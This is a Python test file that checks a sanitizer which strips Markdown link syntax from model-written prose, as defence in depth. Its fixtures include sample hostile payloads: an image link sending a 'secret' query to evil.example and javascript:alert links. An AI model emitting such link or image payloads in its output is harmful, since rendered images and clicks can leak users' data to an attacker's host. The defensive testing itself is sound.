"""Model-written Markdown links never reach a member as link syntax (defence in depth)."""

from __future__ import annotations

import re

from hypothesis import given
from hypothesis import strategies as st

from citewall.api.prose_stream import ProseStream
from citewall.boundary.prose import defang_links, prose_only

HOSTILE = [
    ("Read [the guide](https://evil.example/x) now [1].", "Read the guide now."),
    ("![pixel](https://evil.example/?q=secret)", "pixel"),
    ("[click](javascript:alert(1))", "click"),
    (
        "go <javascript:alert(1)> or <https://evil.example>",
        "go javascript:alert(1) or https://evil.example",
    ),
    ("[a](https://e.example/x_(y)) b", "a b"),
    ("see [ref][1]\n[1]: https://evil.example", "see [ref]"),  # a definition goes whole
]

LINK_SYNTAX = re.compile(r"\]\(|^\s*\[[^\]]+\]:|<(?:https?|javascript|data):", re.M)


def test_hostile_links_become_plain_text() -> None:
    for raw, expected in HOSTILE:
        assert prose_only(raw).strip() == expected


def test_plain_urls_stay_plain_text() -> None:
    assert (
        defang_links("Visit https://evil.example/a today.") == "Visit https://evil.example/a today."
    )


@given(st.text(alphabet="ab [](){}!<>:/.hjs\n1", max_size=60))
def test_no_link_syntax_survives(text: str) -> None:
    out = prose_only(text)
    assert not re.search(r"!?\[[^\]\n]*\]\((?:[^()\n]|\([^()\n]*\))*\)", out)


@given(st.lists(st.integers(min_value=1, max_value=8), min_size=1, max_size=12))
def test_streamed_link_is_never_emitted_as_syntax(cuts: list[int]) -> None:
    raw = (
        "Labels print fast [1]. See [docs](https://evil.example/p) and "
        "![i](https://e.example/i.png) [2]. Or <https://evil.example/q>!"
    )
    stream = ProseStream(prose_only)
    emitted, pos = "", 0
    for n in cuts:
        emitted += stream.feed(raw[pos : pos + n])
        pos += n
    emitted += stream.feed(raw[pos:])
    emitted += stream.finish(prose_only(raw))
    assert "](" not in emitted
    assert emitted == prose_only(raw)
